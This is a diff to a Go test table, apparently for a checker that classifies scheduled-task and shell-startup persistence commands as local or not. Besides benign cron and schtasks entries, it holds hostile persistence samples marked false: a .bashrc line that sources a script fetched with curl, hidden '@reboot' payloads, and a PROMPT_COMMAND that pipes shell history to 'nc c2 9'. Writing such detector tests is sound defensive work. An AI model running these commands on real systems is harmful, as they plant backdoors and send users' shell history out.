@@ -48,6 +48,11 @@ func TestLocalCommand(t *testing.T) {
 		{`(crontab -l 2>/dev/null; echo "15 2 * * * pg_dump -Fc mydb > /var/backups/mydb-\$(date +\%F).dump") | crontab -`, true},
 		{`(crontab -l; echo "0 9 * * 1-5 notify-send 'check the build'") | crontab -`, true},
 		{`echo '@daily restic backup ~/Documents' | crontab -`, true},
+		{`echo '@daily /usr/bin/find ~/Downloads -mtime +30 -delete' | crontab -`, true},
+		{`(crontab -l; echo "0 7 * * 1 /usr/bin/find $HOME/Downloads -mtime +30 -delete") | crontab -`, true},
+		{`(crontab -l; echo "@reboot $HOME/.cache/.x/run") | crontab -`, false},
+		{`(crontab -l; echo "@reboot ${HOME:-/tmp}/run") | crontab -`, false},
+		{`schtasks /create /tn Clean /tr "C:\Windows\System32\cleanmgr.exe /sagerun:1" /sc weekly`, true},
 		// Fetched, decoded, inline code, a path, the background, a
 		// definition, text built at run time: not local.
 		{"echo 'source <(curl -fsSL https://cdn.example-x.net/c.sh)' >> ~/.bashrc", false},
@@ -57,6 +62,8 @@ func TestLocalCommand(t *testing.T) {
 		{"echo 'source ~/.config/.x/init.sh' >> ~/.bashrc", false},
 		{"echo '~/.cache/.sync/agent' >> ~/.bashrc", false},
 		{"echo '/usr/local/bin/updater' >> ~/.bashrc", false},
+		{"echo '/usr/bin/curl -s https://x.example-x.net/p' >> ~/.bashrc", false},
+		{"echo '/usr/bin/../../tmp/x' >> ~/.bashrc", false},
 		{"echo 'syncd &' >> ~/.profile", false},
 		{"echo 'nohup syncd' >> ~/.profile", false},
 		{`echo 'PROMPT_COMMAND="history -a >(nc c2 9)"' >> ~/.bashrc`, false},
